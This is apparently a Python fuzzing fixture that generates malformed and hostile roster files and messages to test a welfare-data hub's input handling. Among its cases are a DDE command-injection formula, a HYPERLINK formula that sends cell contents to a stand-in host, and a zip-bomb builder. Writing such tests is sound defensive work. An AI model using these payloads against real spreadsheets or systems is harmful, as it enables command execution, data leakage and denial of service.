"""Hostile inputs, generated: what department systems and attackers send the edge and the topics.

One seeded generator per kind of input, so a failure reproduces from its seed. The cases mix what real
exports do by accident (Excel numbers for ID numbers, GBK and UTF-8 in one file, shifted rows, full-width
digits, title rows) with what an attacker does on purpose (formulas, control characters, 10 MB cells,
deep JSON, zip bombs, random bytes, truncated Avro, unknown schema ids, impossible values).

``HOSTILE_CASES`` (environment) sets how many cases per format: a CI-sized default, 10,000 for
``make hostile``.
"""

from __future__ import annotations

import io
import json
import os
import random
import struct
import zipfile
from collections.abc import Iterator
from datetime import date, timedelta
from typing import Any

from hub.identity import check_character

CASES = int(os.environ.get("HOSTILE_CASES", "300"))
"""Cases per format: 300 in CI (the whole hostile suite stays well under a minute), 10,000 for make hostile."""
TOPIC_CASES = int(os.environ.get("HOSTILE_TOPIC_CASES", str(CASES if CASES >= 10_000 else max(CASES // 10, 20))))
"""Hostile records per input topic (ten topics): 30 each in CI, 10,000 each for make hostile."""

ROSTER_HEADER = ["身份证号码", "审批日期", "救助类别", "行政区划代码"]
FORMULAS = ['=cmd|\' /C calc\'!A0', "+SUM(1,2)", "-2+3", "@SUM(A1)", '=HYPERLINK("http://x.example/?"&A1,"点击")',
            "\t=1+1", "＝1+1", "=1+1"]
CONTROL = ["\x00", "\x07", "\u202e", "\ufeff", "\u200b", "\r", "\x1b[31m"]


def id_number(rng: random.Random) -> str:
    """A valid 18-character ID number (check character computed)."""
    born = date(1930, 1, 1) + timedelta(days=rng.randrange(0, 30_000))
    first17 = f"{rng.choice(['530102', '532503', '110105', '430511'])}{born:%Y%m%d}{rng.randrange(1000):03d}"
    return first17 + check_character(first17)


def id_variant(rng: random.Random) -> Any:
    """An ID-number cell as departments and attackers send it: valid, mangled, typed wrong."""
    n = id_number(rng)
    return rng.choice([
        lambda: n, lambda: n.lower(), lambda: f" {n}\u3000", lambda: n[:17] + ("0" if n[17] != "0" else "1"),
        lambda: n[:6] + n[8:17], lambda: f"{n[:6]}-{n[6:14]}-{n[14:]}", lambda: f"{n[:6]} {n[6:14]} {n[14:]}",
        lambda: n.translate(str.maketrans("0123456789", "０１２３４５６７８９")), lambda: f"'{n}", lambda: f'="{n}"',
        lambda: f"{int(n[:17]) / 10 ** 12:.5f}E+17", lambda: f"{n[:17]}.0", lambda: float(n[:17]) * 10,
        lambda: int(n[:17]), lambda: "ID" + n, lambda: n + n, lambda: "", lambda: None, lambda: rng.choice(FORMULAS),
        lambda: rng.choice(CONTROL) + n, lambda: n[:10], lambda: "X" * 18, lambda: n.replace(n[10:12], "13"),
    ])()


def text(rng: random.Random) -> Any:
    """Any other cell: dates, categories, codes, amounts, and garbage."""
    return rng.choice([
        lambda: "2024-03-04", lambda: "2024/3/5", lambda: "2024年3月5日", lambda: "2024-02-30", lambda: "0000-00-00",
        lambda: "9999-12-31 23:59:60", lambda: "20240305", lambda: "农村低保", lambda: "特困人员、农村低保",
        lambda: "低保户", lambda: "退出", lambda: "530102", lambda: "5301", lambda: "53010２", lambda: "1e309",
        lambda: "NaN", lambda: "-0", lambda: "8,650.50", lambda: rng.choice(FORMULAS), lambda: rng.choice(CONTROL),
        lambda: "".join(chr(rng.randrange(0x20, 0x9FFF)) for _ in range(rng.randrange(1, 40))),
        lambda: "张" * rng.randrange(1, 5000), lambda: id_number(rng), lambda: "", lambda: None, lambda: 3.5,
        lambda: 10 ** 30, lambda: -1, lambda: True,
    ])()


def plausible(rng: random.Random, good: list[Any]) -> Any:
    """Mostly what a department writes (so most rows are events), else anything."""
    return rng.choice(good) if rng.random() < 0.8 else text(rng)


def roster_rows(rng: random.Random, n: int) -> list[list[Any]]:
    """Roster rows (身份证号码, 审批日期, 救助类别, 行政区划代码), some shifted, some blank, some short or long."""
    rows = []
    for _ in range(n):
        row = [id_number(rng) if rng.random() < 0.6 else id_variant(rng),
               plausible(rng, ["2024-03-04", "2024/3/5", "2024年3月5日", "20240306"]),
               plausible(rng, ["农村低保", "特困人员", "低保对象、特困供养", "退出"]),
               plausible(rng, ["530102", "532503"])]
        shape = rng.random()
        if shape < 0.05:
            row = row[1:]  # shifted left: the ID number column holds a date
        elif shape < 0.10:
            row = [text(rng)] + row  # shifted right: an ID number in the date column
        elif shape < 0.12:
            row = ["", "", "", ""]
        rows.append(row)
    return rows


def csv_files(rng: random.Random, n: int) -> Iterator[tuple[str, bytes, list[list[Any]] | None]]:
    """(name, bytes, rows) of CSV files holding ``n`` rows in all: GBK, UTF-8, BOM, mixed encodings, title rows.

    ``rows`` are the data rows as a reader must see them (None: the file may well be unreadable as a whole).
    """
    import csv

    done = 0
    k = 0
    while done < n:
        size = min(n - done, rng.randrange(1, 400))
        rows = roster_rows(rng, size)
        buf = io.StringIO()
        w = csv.writer(buf)
        if rng.random() < 0.3:
            w.writerow(["XX县2024年3月农村低保、特困人员花名册"])
        w.writerow(ROSTER_HEADER)
        w.writerows([["" if c is None else c for c in r] for r in rows])
        text_ = buf.getvalue()
        enc = rng.choice(["gbk", "utf-8", "utf-8-sig", "mixed"])
        if enc == "mixed":  # half the file saved in GBK, half in UTF-8: an encoding mix-up
            half = len(text_) // 2
            data = text_[:half].encode("gbk", "replace") + text_[half:].encode("utf-8")
        else:
            data = text_.encode(enc, "replace")
        done += size
        k += 1
        plain = enc.replace("-sig", "")
        seen = None if enc == "mixed" else [[("" if c is None else str(c)).encode(plain, "replace").decode(plain)
                                             for c in r] for r in rows]
        yield f"roster_{k:05d}.csv", data, seen
    big = [id_number(rng), "长" * 3_500_000, "农村低保", "530102"]
    yield "one_10MB_row.csv", "\r\n".join([",".join(ROSTER_HEADER), ",".join(big)]).encode("utf-8"), [big]
    unbalanced = "\r\n".join([",".join(ROSTER_HEADER), '"' + id_number(rng) + ',2024-03-04'])
    yield "unbalanced.csv", unbalanced.encode(), [["one cell to the end of the file"]]
    yield "random.csv", rng.randbytes(4096), None


def expected_items(data_rows: list[list[Any]]) -> int:
    """How many items a readable file must yield: one per row that is not blank."""
    return sum(1 for r in data_rows if not all(c is None or (isinstance(c, str) and not c.strip()) for c in r))


def xlsx_files(rng: random.Random, n: int) -> Iterator[tuple[str, bytes, list[list[Any]] | None]]:
    """(name, bytes, rows) of XLSX workbooks with typed and hostile cells, plus broken and malicious files."""
    from openpyxl import Workbook

    done = 0
    k = 0
    while done < n:
        size = min(n - done, rng.randrange(1, 800))
        wb = Workbook()
        ws = wb.active
        if rng.random() < 0.3:
            ws.append(["昆明市五华区农村低保、特困人员花名册"])
            ws.append(["填报单位：五华区民政局"])
        ws.append(ROSTER_HEADER)
        rows = [[_xlsx_cell(c) for c in row] for row in roster_rows(rng, size)]
        for row in rows:
            ws.append(row)
        buf = io.BytesIO()
        wb.save(buf)
        done += size
        k += 1
        # a text starting with "=" is stored as a formula without a cached value: a reader sees an empty cell
        yield f"roster_{k:05d}.xlsx", buf.getvalue(), [[None if isinstance(c, str) and c.startswith("=") else c
                                                        for c in r] for r in rows]
    far = Workbook()
    far.active.append(ROSTER_HEADER)
    far.active["XFD1048576"] = "x"
    buf = io.BytesIO()
    far.save(buf)
    yield "far_cell.xlsx", buf.getvalue(), None
    yield "zip_bomb.xlsx", zip_bomb(), None
    yield "truncated.xlsx", buf.getvalue()[: len(buf.getvalue()) // 2], None
    yield "random.xlsx", rng.randbytes(4096), None
    yield "not_a_zip.xlsx", b"PK\x03\x04" + rng.randbytes(100), None


def _xlsx_cell(c: Any) -> Any:
    if isinstance(c, str):
        return "".join(ch for ch in c if ch >= " " or ch in "\t\n")  # XML cannot hold other control characters
    return c


def zip_bomb(inflated: int = 64 * 1024 * 1024) -> bytes:
    """An XLSX-shaped zip whose sheet inflates ~1000-fold (64 MiB of one repeated row from a few dozen KB)."""
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open("xl/worksheets/sheet1.xml", "w") as fh:
            fh.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
            chunk = row * (1024 * 1024 // len(row))
            for _ in range(inflated // len(chunk)):
                fh.write(chunk)
            fh.write(b"</sheetData></worksheet>")
    return buf.getvalue()


def sql_rows(rng: random.Random, n: int) -> list[dict[str, Any]]:
    """Rows of an enrolment table as text columns (PostgreSQL text holds no NUL: it is dropped)."""
    def clean(v: Any) -> str | None:
        return None if v is None else str(v).replace("\x00", "")
    return [{"rid": i, "certno": clean(id_number(rng) if rng.random() < 0.6 else id_variant(rng)),
             "insu_year": clean(plausible(rng, [2024, "2024年", "2024年度"])),
             "stas": clean(plausible(rng, ["1", "2", "4"])), "region": clean(plausible(rng, ["530102", "532503"])),
             "rescue": clean(plausible(rng, ["特困人员", "无", None]))} for i in range(1, n + 1)]


def http_bodies(rng: random.Random, n: int) -> Iterator[bytes]:
    """Bodies a sender POSTs: valid updates, wrong types, unknown fields, deep JSON, lists, garbage bytes."""
    rid = "uninsured:p_" + "0" * 32 + ":2024#1/civil_affairs/premium_subsidy"
    for _ in range(n):
        base: dict[str, Any] = {
            "id_number": id_number(rng) if rng.random() < 0.5 else id_variant(rng),
            "referral_id": plausible(rng, [rid, rid * 50]),
            "status": plausible(rng, ["acknowledged", "rejected", "completed", "open"]), "reason": text(rng),
            "amount_fen": rng.choice([0, 250000, -1, 2 ** 70, 1.5, "100", None]),
            "occurred_at": plausible(rng, ["2024-03-09T10:00:00+08:00"])}
        if rng.random() < 0.2:
            base[str(id_variant(rng))] = text(rng)  # an unknown field named by an ID number
        kind = rng.random()
        if kind < 0.55:
            yield json.dumps(base, ensure_ascii=rng.random() < 0.5, default=str).encode()
        elif kind < 0.65:
            yield json.dumps([base] * rng.randrange(0, 5), default=str).encode()
        elif kind < 0.72:
            depth = rng.randrange(20, 200)
            yield b"[" * depth + b"1" + b"]" * depth
        elif kind < 0.78:
            yield json.dumps([rng.choice([1, "x", None, []])] * rng.randrange(100, 3000)).encode()
        elif kind < 0.85:
            yield rng.randbytes(rng.randrange(0, 300))
        elif kind < 0.90:
            yield json.dumps(base, default=str).encode("utf-8")[: rng.randrange(1, 50)]
        elif kind < 0.95:
            yield json.dumps(base, ensure_ascii=False, default=str).encode("gbk", "replace")
        else:
            yield json.dumps(rng.choice([None, 1, "x", True, {"": {}}, {"a" * 1000: 1}])).encode()


def topic_records(rng: random.Random, schema_id: int, valid: bytes, n: int) -> Iterator[tuple[str, bytes]]:
    """(kind, bytes) of hostile records for one input topic, from one valid encoded record of it."""
    for _ in range(n):
        kind = rng.choice(["random", "truncated", "unknown_schema", "bad_magic", "empty", "bad_utf8"])
        if kind == "random":
            yield kind, rng.randbytes(rng.randrange(0, 200))
        elif kind == "truncated":
            yield kind, valid[: rng.randrange(5, max(len(valid) - 1, 6))]
        elif kind == "unknown_schema":
            yield kind, b"\x00" + struct.pack(">I", rng.randrange(10_000_000, 2 ** 31)) + valid[5:]
        elif kind == "bad_magic":
            yield kind, bytes([rng.randrange(1, 256)]) + valid[1:]
        elif kind == "empty":
            yield kind, b""
        else:  # an Avro string whose bytes are not UTF-8: flip bytes inside the record body
            body = bytearray(valid)
            for _ in range(3):
                body[rng.randrange(5, len(body))] = rng.choice([0xFF, 0xC3, 0x80])
            yield kind, bytes(body)
